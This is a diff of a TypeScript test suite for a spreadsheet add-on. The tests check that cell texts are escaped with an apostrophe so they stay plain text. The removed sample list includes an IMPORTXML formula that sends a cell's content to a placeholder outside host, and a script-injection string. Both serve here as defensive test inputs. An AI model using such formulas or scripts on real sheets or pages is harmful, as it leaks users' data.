@@ -1,41 +1,23 @@
 /** Hostile texts: whatever the script copies into a cell arrives as text and reads back as it was. */
 
 import fc from 'fast-check';
+import {createHost} from '../../local/host';
 import type {Cell} from '../../src/model/cell';
 import {encodeCell} from '../../src/workbook/encode';
 import {allShown, emptyHost} from '../sample-host';
+import {CONTROLS, HOSTILE, LONGEST, anyText} from '../hostile-texts';
+import {bundleOf} from './bundle-of';
 import {columnOf, onSheet, put, run, smallBook} from './small-book';
 
-/** What a line of a short text may be. */
-const LINES = [
-  '=IMPORTXML("http://x?"&A1;"//a")',
-  '=1+1',
-  '+1',
-  '-2+3',
-  '@x',
-  "'с апострофом",
-  "''два",
-  '007',
-  '1E5',
-  '35',
-  '12,5 %',
-  'ИСТИНА',
-  'TRUE',
-  '6-11',
-  'октябрь 2022',
-  '</script><script>alert(1)</script>',
-  '👩‍🏫 №\u00a01',
-  '{1\\2}',
-];
-const TEXTS = [
-  ...LINES,
-  '#REF!',
-  '\t=1',
-  '\r=1',
-  ' =1',
-  'две\nстроки',
-  'я'.repeat(49_999),
-];
+/** Such as stand in a name or a title: one line, neither blank nor what a failed formula gives. */
+const LINES = HOSTILE.filter(
+  text =>
+    text === text.trim() &&
+    !text.startsWith('#') &&
+    /\p{L}|\d/u.test(text) &&
+    !/[\r\n]/.test(text),
+);
+const TEXTS = [...HOSTILE, ...CONTROLS, '   ', 'я'.repeat(LONGEST)];
 
 describe('encodeCell', () => {
   test.each(['', '0', 'dd.mm.yyyy'])(
@@ -62,6 +44,12 @@ describe('encodeCell', () => {
     },
   );
 
+  test('a text that leaves no room for the apostrophe is refused with its beginning', () => {
+    expect(() => encodeCell('я'.repeat(LONGEST + 1))).toThrow(
+      /^Текст «я{60}…» слишком длинный: 50000 знаков, а надстройка может записать 49999\. Сократите/,
+    );
+  });
+
   test('leaves blanks, numbers and truth values as they are', () => {
     expect(['', 0, -1.5, true, false].map(encodeCell)).toEqual([
       '',
@@ -74,10 +62,55 @@ describe('encodeCell', () => {
 
   test('property: one apostrophe, and the text behind it', () => {
     fc.assert(
-      fc.property(fc.string({minLength: 1, unit: 'binary'}), text => {
+      fc.property(anyText, text => {
         expect(encodeCell(text)).toBe(`'${text}`);
       }),
     );
+  });
+});
+
+describe('a column', () => {
+  const dist = bundleOf(`
+    import {writeColumn} from 'src/workbook/encode';
+    /** Writes cells under each other into cells that have a format already. */
+    export function write(cells, format, present) {
+      const sheet = SpreadsheetApp.getActive().getSheets()[0];
+      const range = sheet.getRange(1, 1, cells.length, 1).setNumberFormat(present);
+      writeColumn(range, cells, format);
+      return {
+        values: range.getValues().flat(),
+        formulas: range.getFormulas().flat().join(''),
+        formats: [...new Set(range.getNumberFormats().flat())],
+      };
+    }`);
+  const host = createHost({folder: dist, person: ''});
+  const write = (cells: readonly Cell[], format: string, present: string) =>
+    host.run('write', [cells, format, present]);
+
+  test.each([
+    ['@', '@'],
+    ['@', '0'],
+    ['0', '0'],
+    // Somebody has made it plain text, as the whole sheet is by one press.
+    ['0', '@'],
+    ['dd.mm.yyyy', '@'],
+  ])(
+    'of the format «%s» that has «%s» takes every text, and gets its own',
+    (format, present) => {
+      expect(write(TEXTS, format, present)).toEqual({
+        values: TEXTS,
+        formulas: '',
+        formats: [format],
+      });
+    },
+  );
+
+  test('of numbers keeps the format that people gave it', () => {
+    expect(write([1, 2.5, ''], '0', '0.00')).toEqual({
+      values: [1, 2.5, ''],
+      formulas: '',
+      formats: ['0.00'],
+    });
   });
 });
 
